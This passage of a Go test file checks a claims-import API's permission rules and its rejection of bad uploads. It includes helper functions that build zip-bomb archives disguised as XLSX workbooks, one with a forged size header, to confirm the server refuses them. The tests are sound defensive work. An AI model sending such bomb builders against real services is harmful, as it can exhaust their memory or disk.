			t.Errorf("after the deadline: %q", codes)
		}
		e.mustOK(e.call("PUT", "/api/v1/periods/2019/regions/62.08/extension", models.RoleCoordinator, map[string]any{"until": "2099-12-31", "reason": "Banjir"}))
		_, extended := e.importFile("/api/v1/periods/2019/import/claims?dry_run=true", models.RoleOperator, "k.csv", one)
		if extended.Totals.Update != 1 {
			t.Errorf("with an extension: %+v", extended)
		}
		scoped := models.UserInput{Email: "prov63@test.pantau.id", Name: "Koordinator 63", Role: models.RoleCoordinator, Password: testPassword, Province: ptr("63")}
		if _, err := e.db.CreateUser(t.Context(), scoped, false); err != nil {
			t.Fatal(err)
		}
		e.tokens["prov63"] = e.login(scoped.Email)
		_, outside := e.importFile("/api/v1/periods/2019/import/claims?dry_run=true", "prov63", "k.csv", one)
		if _, codes := outside.rowOf(t, "62.08/I1"); !slices.Equal(codes, []string{"region_code:region_scope"}) {
			t.Errorf("a coordinator of another province: %q", codes)
		}
		for _, role := range []models.Role{models.RoleReviewer, models.RoleSignatory} {
			e.expect(e.upload("/api/v1/periods/2019/import/claims", role, "k.csv", one), 403, "forbidden")
		}
		e.mustOK(e.call("POST", "/api/v1/periods/2019/close", models.RoleAdmin, nil))
		_, closed := e.importFile("/api/v1/periods/2019/import/claims?dry_run=true", models.RoleAdmin, "k.csv", one)
		if _, codes := closed.rowOf(t, "62.08/I1"); !slices.Equal(codes, []string{"progress:period_closed"}) {
			t.Errorf("in a closed period: %q", codes)
		}
	})
}

// TestImportBadInput: files that are not spreadsheets are 415, files over the limits 413 (a zip
// bomb from its directory, without inflating it), a sheet without the required columns 422
// naming them; nothing changes.
func TestImportBadInput(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		before := e.counts()
		const path = "/api/v1/periods/2019/import/claims"
		for name, data := range map[string][]byte{
			"a.pdf":  samplePDF(t, "bukan lembar kerja"),
			"a.xls":  append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), make([]byte, 600)...),
			"a.docx": zipOf(t, map[string]string{"word/document.xml": "<w:document/>"}),
			"a.png":  {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13},
			"a.bin":  {'a', 'b', 0, 'c'},
			"a.zip":  []byte("PK\x03\x04 not really a zip"),
		} {
			e.expect(e.upload(path, models.RoleAdmin, name, data), 415, "unsupported_media_type")
		}
		e.expect(e.upload(path, models.RoleAdmin, "a.csv", []byte{}), 422, "validation_failed")
		e.expect(e.call("POST", path, models.RoleAdmin, "{}"), 400, "bad_request")
		e.expect(e.upload(path+"?dry_run=maybe", models.RoleAdmin, "a.csv", []byte("x")), 422, "validation_failed")
		e.expect(e.upload("/api/v1/periods/2018/import/claims", models.RoleAdmin, "a.csv", []byte("x")), 404, "not_found")

		r := e.upload(path, models.RoleAdmin, "a.csv", []byte("Judul laporan\nregion_code;catatan\n62.08;x\n"))
		e.expect(r, 422, "validation_failed")
		if f := r.fields(t); len(f) != 2 || f["indicator_code"] == "" || f["progress"] == "" {
			t.Errorf("missing columns named: %v", f)
		}

		// A zip bomb: its directory declares far more than the limit; its data is not even valid
		// deflate, so only reading the directory can have refused it.
		e.expect(e.upload(path, models.RoleAdmin, "bom.xlsx", lyingBomb(t)), 413, "too_large")
		saved := importLimits
		t.Cleanup(func() { importLimits = saved })
		importLimits.Unpacked = 4 << 20
		e.expect(e.upload(path, models.RoleAdmin, "bom.xlsx", honestBomb(t, 16<<20)), 413, "too_large")
		importLimits = saved
		importLimits.Rows = 3
		e.expect(e.upload(path, models.RoleAdmin, "a.csv", []byte("region_code,indicator_code,progress\n62.08,I1,1\n62.08,I2,2\n62.71,I1,3\n62.71,I2,4\n")), 413, "too_large")
		importLimits = saved
		importLimits.Bytes = 64
		e.expect(e.upload(path, models.RoleAdmin, "a.csv", []byte(strings.Repeat("region_code,indicator_code,progress\n", 3))), 413, "too_large")
		importLimits = saved
		if after := e.counts(); !equalCounts(before, after) {
			t.Errorf("bad input changed the database: %v → %v", before, after)
		}
	})
}

func zipOf(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for name, content := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(content))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// lyingBomb is an XLSX-looking archive whose worksheet declares 4 GiB and holds 1 KiB of bytes
// that are not deflate data.
func lyingBomb(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, name := range []string{"[Content_Types].xml", "xl/workbook.xml"} {
		w, _ := zw.Create(name)
		w.Write([]byte("<x/>"))
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CompressedSize64: 1024, UncompressedSize64: 4 << 30})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(bytes.Repeat([]byte{0xff}, 1024))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// honestBomb is a real workbook whose worksheet inflates to n bytes of spaces.
func honestBomb(t *testing.T, n int) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for name, content := range map[string]string{"[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>"} {
		w, _ := zw.Create(name)
		w.Write([]byte(content))
	}
	w, _ := zw.Create("xl/worksheets/sheet1.xml")
	w.Write(bytes.Repeat([]byte(" "), n))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if b.Len() > n/100 {
		t.Fatalf("the bomb is %d bytes, not a bomb", b.Len())
	}
	return b.Bytes()
}
